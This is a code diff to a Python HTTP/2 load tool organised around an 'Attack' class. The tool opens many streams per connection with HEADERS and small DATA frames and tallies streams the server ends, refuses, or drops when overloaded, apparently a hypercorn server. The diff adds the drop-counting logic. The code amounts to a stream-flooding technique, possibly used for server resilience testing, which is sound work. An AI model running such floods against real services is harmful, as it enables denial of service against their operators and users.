@@ -63,6 +63,10 @@ class Attack:
     """Streams the server ended (trailers with END_STREAM, or RST_STREAM)."""
     refused: int = 0
     """Of those, the streams reset unprocessed (RST_STREAM with REFUSED_STREAM)."""
+    dropped: int = 0
+    """Streams the server let go of by closing their connection before it ended them (hypercorn
+    closes a connection that has shown no request within its keep-alive timeout: 5 s, met when
+    the server is too busy to read the connection's first frames)."""
     connections_closed: int = 0
     ended: set[tuple[int, int, int]] = field(default_factory=set)
     """The streams ended, by port, connection and stream id (one attack may span ports)."""
@@ -80,6 +84,7 @@ async def _connection(
     window: int | None,
 ) -> None:
     reader, writer = await asyncio.open_connection(host, port)
+    opened = 0
     settings = b"" if window is None else struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
     writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + settings)
     headers = request_headers(f"{host}:{port}", path, content_type)
@@ -89,7 +94,12 @@ async def _connection(
         writer.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
         writer.write(frame(DATA, 0, stream, b"\x00") + b"\x00")
         attack.opened += 1
-    await writer.drain()
+        opened += 1
+    try:
+        await writer.drain()
+    except ConnectionError:
+        attack.dropped += opened
+        raise
 
     async def read() -> None:
         while True:
@@ -114,6 +124,9 @@ async def _connection(
     stopping = asyncio.ensure_future(stop.wait())
     try:
         await asyncio.wait((reading, stopping), return_when=asyncio.FIRST_COMPLETED)
+        if reading.done() and isinstance(reading.exception(), (ConnectionError, EOFError)):
+            ended = sum(1 for key in attack.ended if key[:2] == (port, index))
+            attack.dropped += opened - ended
     finally:
         for task in (reading, stopping):
             task.cancel()
